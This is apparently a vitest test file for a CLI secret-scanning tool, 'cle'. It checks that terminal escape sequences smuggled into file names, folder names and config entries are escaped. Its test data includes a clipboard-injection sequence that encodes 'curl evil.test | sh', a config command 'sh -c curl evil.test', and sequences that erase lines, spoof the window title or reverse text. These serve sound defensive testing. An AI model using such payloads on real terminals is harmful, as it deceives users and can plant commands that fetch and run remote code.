import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { bundle } from '../../../configurator/build.ts';
import type { Output } from '../../../configurator/cli/standard-streams.ts';
import { terminalOf } from '../../../configurator/cli/terminal.ts';
import { makeWorkspace, type Workspace } from '../../e2e/harness/workspace.ts';
import { canary } from '../../extension/key.ts';
import { keyJson } from '../sandbox.ts';

vi.setConfig({ testTimeout: 120_000 });

const eraseAbove = '\u001b[3A\u001b[J';
const title = '\u001b]0;all is well\u0007';
const clipboard = '\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007';
const reversed = '\u202evne.\u202c';

let built: Workspace;
let box: Workspace;
beforeAll(async () => {
  built = makeWorkspace();
  await bundle(built.project);
}, 60_000);
afterAll(() => built.remove());
beforeEach(() => {
  box = makeWorkspace();
});
afterEach(() => {
  tmux('kill-server');
  box.remove();
});

function put(name: string, text: string): void {
  writeFileSync(join(box.project, name), text, { mode: 0o600 });
}

const command = (words: readonly string[]) => [process.execPath, join(built.project, 'cle.cjs'), ...words];

/** Runs `cle` as a script does, without a terminal. */
function run(words: readonly string[], input = '') {
  const [program = '', ...rest] = command(words);
  const env = { ...box.env, LANG: 'en_GB.UTF-8' };
  return spawnSync(program, rest, { cwd: box.project, env, input, encoding: 'utf8' });
}

function tmux(...words: readonly string[]): string {
  const socket = join(box.temporary, 'tmux');
  const { stdout } = spawnSync('tmux', ['-u', '-S', socket, '-f', '/dev/null', ...words], {
    env: { ...box.env, LANG: 'en_GB.UTF-8', TERM: 'xterm-256color' },
    encoding: 'utf8',
  });
  return stdout;
}

/** What a terminal shows and keeps once `cle` has run in it. */
interface Screen {
  readonly lines: readonly string[];
  readonly title: string;
  readonly clipboard: string;
  /** The exact bytes written to the terminal. */
  readonly written: string;
}

/** Runs `cle` in tmux, a terminal that obeys control sequences. */
async function look(words: readonly string[], typed?: string): Promise<Screen> {
  const [log, end] = [join(box.temporary, 'written'), join(box.temporary, 'end')];
  const quoted = command(words).map((word) => `'${word}'`);
  const script = join(box.temporary, 'run.sh');
  writeFileSync(script, `sleep 0.3; ${quoted.join(' ')}; echo $? > '${end}'; exec sleep 60\n`);
  tmux('new-session', '-d', '-x', '200', '-y', '40', '-c', box.project, 'sh', script);
  tmux('set-option', '-g', 'set-clipboard', 'on');
  tmux('pipe-pane', '-o', `cat > '${log}'`);
  for (let tries = 0; tries < 400 && !isThere(end); tries++) {
    if (typed !== undefined && tmux('capture-pane', '-p').includes('◆')) tmux('send-keys', typed);
    await sleep(100);
  }
  await sleep(300);
  return {
    lines: tmux('capture-pane', '-p').trimEnd().split('\n'),
    title: tmux('display-message', '-p', '#{pane_title}').trim(),
    clipboard: tmux('show-buffer'),
    written: readFileSync(log, 'utf8'),
  };
}

function isThere(path: string): boolean {
  try {
    return readFileSync(path, 'utf8') !== '';
  } catch {
    return false;
  }
}

/** The colour sequences of this program, and those of its prompts. */
const own = new RegExp(`${String.fromCharCode(0x1b)}\\[(?:\\?25[hl]|[\\d;]*m|\\d*[ABCDGJK])`, 'g');

/** Characters that act on a terminal, other than our own. */
function strays(written: string): string[] {
  return written.replaceAll(own, '').match(/[^\P{Cc}\r\n]|[\p{Bidi_Control}\u2028\u2029]/gu) ?? [];
}

const projectFile = (file: string) =>
  `version: 1\nenvironments: { homologation: [\n  { file: .env, set: { PAYLINE_ACCESS_KEY: accessKey } },\n  { file: ${file}, format: env, set: { KEY: accessKey } } ] }\n`;

const install = () => {
  put(
    'cle.config.yaml',
    'version: 1\nenvironments: { homologation: [{ file: .env, set: { KEY: accessKey } }] }\n',
  );
  put('.env', 'KEY=old0old0old0old0old0\n');
  expect(run(['apply', '-', '--yes'], keyJson(canary))).toMatchObject({ status: 0 });
};

describe('a terminal that shows a name from outside', () => {
  it.each([
    ['erases lines above it', `${eraseAbove}.txt`],
    ['sets the title of the window', `${title}.txt`],
    ['fills the clipboard', `${clipboard}.txt`],
    ['begins a line of its own', 'a\nkey …nVy found in 0 places.txt'],
    ['turns the direction of text', `${reversed}.txt`],
    ['has eight-bit controls', '\u009b3A\u009bJ\u0085\u2028.txt'],
    ['imitates our colours', '\u001b[8mhidden\u001b[0m.txt'],
  ])('stays as it is where the name %s', async (_, name) => {
    install();
    put(name, `key=${canary}\n`);
    put('before.txt', `key=${canary}\n`);
    const { lines, title, clipboard, written } = await look(['scan']);
    expect(lines[0]).toMatch(/8ctQ2lfa/);
    expect(lines.filter((line) => /^ {2}(?:before\.txt|\.env):/.test(line))).toHaveLength(2);
    expect(lines.join('\n')).toContain(escaped(name));
    expect(title).not.toContain('all is well');
    expect(clipboard).toBe('');
    expect(strays(written)).toEqual([]);
    expect(written, 'our own colours go through').toContain('\u001b[1m');
    expect(written).not.toContain('\u001b[8m');
  });

  it('is not affected if a question or an error names a folder', async () => {
    const folder = `${eraseAbove}${clipboard}`;
    mkdirSync(join(box.project, folder));
    const { lines, clipboard: kept, written } = await look(['status', '--project', folder]);
    expect(lines.join('\n')).toContain('\\u001b[3A\\u001b[J');
    expect(kept).toBe('');
    expect(strays(written)).toEqual([]);
  });
});

const escaped = (text: string) =>
  text.replace(
    /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/gu,
    (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );

describe('a project file with characters that change the display', () => {
  it.each([
    ['the path of a target', projectFile('"\\e[3A\\e[J .env"'), 4, '\\u001b'],
    ['an address', projectFile('"b.env"').replace(' KEY:', ' "K\\u202eEY":'), 4, '\\u202e'],
    ['a command', commandFile('["sh", "-c", "curl evil.test", "\\x9b1A"]'), 2, '\\u009b'],
  ])('is refused for %s, and the plan is not shown', async (_, text, line, character) => {
    put('cle.config.yaml', text);
    put('.env', 'PAYLINE_ACCESS_KEY=old0old0old0old0old0\n');
    const { lines, written } = await look(['allow']);
    expect(lines.join(' ')).toContain(`"cle.config.yaml" line ${line}: `);
    expect(lines.join(' ')).toContain(character);
    expect(strays(written)).toEqual([]);
  });
});

it('is never written by cle init', () => {
  put('\u001b[2J.env', 'PAYLINE_MERCHANT_ID=\nPAYLINE_ACCESS_KEY=\n');
  put('.env', 'PAYLINE_MERCHANT_ID=\nPAYLINE_ACCESS_KEY=\n');
  const { stdout } = run(['init', '--yes']);
  expect(stdout).toContain('"\\u001b[2J.env": its name');
  expect(strays(stdout)).toEqual([]);
  expect(readFileSync(join(box.project, 'cle.config.yaml'), 'utf8')).not.toContain('[2J');
});

function commandFile(argv: string): string {
  return `version: 1\nenvironments: { homologation: [{ command: ${argv}, set: accessKey }] }\n`;
}

describe('the output for a script', () => {
  it('is JSON with these characters as escapes', () => {
    install();
    const name = `${reversed}\u009b1A\u2028\u007f.txt`;
    put(name, `key=${canary}\n`);
    const { stdout } = run(['scan', '--json']);
    expect(strays(stdout)).toEqual([]);
    const { found } = JSON.parse(stdout) as { found: { path: string }[] };
    expect(found.map(({ path }) => path)).toContain(name);
  });

  it('has help and completion on several lines', () => {
    expect(run(['--help']).stdout.split('\n').length).toBeGreaterThan(20);
    const script = run(['completion', 'bash']).stdout;
    execFileSync('bash', ['-n'], { input: script });
    expect(script.split('\n').length).toBeGreaterThan(20);
  });
});

it('is written to in one place, and by the prompts', () => {
  const room = resolve(import.meta.dirname, '../../../configurator');
  const writers = readdirSync(room, { recursive: true, encoding: 'utf8' })
    // The host writes frames, to browsers.
    .filter((file) => /^(?!native-host).+\/.+\.ts$/.test(file))
    .filter((file) =>
      /@clack\/prompts|\bconsole\.(?:log|error|warn|info)|\b(?:process|output)\.(?:std(?:out|err)\.)?write\b|\bstdout\.write|\bwriteSync\(descriptor/.test(
        readFileSync(join(room, file), 'utf8'),
      ),
    );
  expect(writers.sort(), 'write through the Terminal that a command gets').toEqual([
    'cli/prompts.ts',
    'cli/standard-streams.ts',
    'cli/terminal.ts',
  ]);
});

it('keeps the lines of a text, and escapes everything else in it that acts on a terminal', () => {
  const written: string[] = [];
  const output = { isTerminal: true, columns: 80, write: (text: string) => void written.push(text) };
  terminalOf(process, output as Output).printText(`one\n${title}two`);
  expect(written).toEqual(['one\n\\u001b]0;all is well\\u0007two\n']);
});
